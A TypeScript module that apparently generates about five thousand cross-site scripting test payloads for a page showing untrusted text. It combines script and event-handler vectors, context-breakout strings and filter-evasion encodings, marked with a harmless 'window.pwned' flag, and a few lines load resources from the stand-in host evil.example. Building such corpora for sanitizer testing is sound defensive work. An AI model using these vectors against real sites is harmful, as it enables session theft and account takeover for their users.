/** Five thousand ways to run a script in a page that shows untrusted text. */

/** The action of a payload that runs; each leaves its mark on the page. */
const VECTORS = [
	'<script>window.pwned=1</script>',
	'<script src=data:,window.pwned=1></script>',
	'<img src=x onerror=window.pwned=1>',
	'<svg onload=window.pwned=1>',
	'<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
	'<svg><script>window.pwned=1</script></svg>',
	'<math><a xlink:href=javascript:window.pwned=1>x</a></math>',
	'<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
	'<iframe src=javascript:parent.pwned=1></iframe>',
	'<object data=javascript:window.pwned=1></object>',
	'<embed src=javascript:window.pwned=1>',
	'<details open ontoggle=window.pwned=1>',
	'<input autofocus onfocus=window.pwned=1>',
	'<video><source onerror=window.pwned=1></video>',
	'<body onload=window.pwned=1>',
	'<a href=javascript:window.pwned=1>x</a>',
	'<form action=javascript:window.pwned=1><button>x</button></form>',
	'<meta http-equiv=refresh content="0;url=javascript:window.pwned=1">',
	'<base href=https://evil.example/>',
	'<link rel=stylesheet href=https://evil.example/x.css>',
	'<style>@import url(https://evil.example/x.css)</style>',
	'<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
	'{{constructor.constructor("window.pwned=1")()}}',
	'\u0024{window.pwned=1}',
	'javascript:window.pwned=1',
];

/** The contexts that it would break out of. */
const ESCAPES = [
	'',
	'"',
	"'",
	'">',
	"'>",
	'`>',
	'</title>',
	'</textarea>',
	'</script>',
	'</style>',
	'</option></select>',
	'-->',
	']]>',
	'*/',
	'\\u003e',
	'\u2028',
	'&quot;>',
	'%22%3E',
	'<!--',
	'" autofocus onfocus=window.pwned=1 x="',
];

/** How it would slip past a filter. */
const DISGUISES: ((text: string) => string)[] = [
	(text) => text,
	(text) => text.replaceAll(' ', '/'),
	(text) => text.replaceAll(' ', '\n'),
	(text) => text.replaceAll('<', '<\u0000'),
	(text) => text.replaceAll(/<(\w)(\w*)/g, (_, first: string, rest: string) => `<${first.toUpperCase()}${rest}`),
	(text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
	(text) => text.replaceAll('<', '&#x3c;'),
	(text) => text.replaceAll('<', '\uff1c'),
	(text) => encodeURIComponent(text),
	(text) => `<<${text}//>`,
];

export const PAYLOADS = VECTORS.flatMap((vector) =>
	ESCAPES.flatMap((breakout) => DISGUISES.map((disguise) => `${breakout}${disguise(vector)}`)),
);
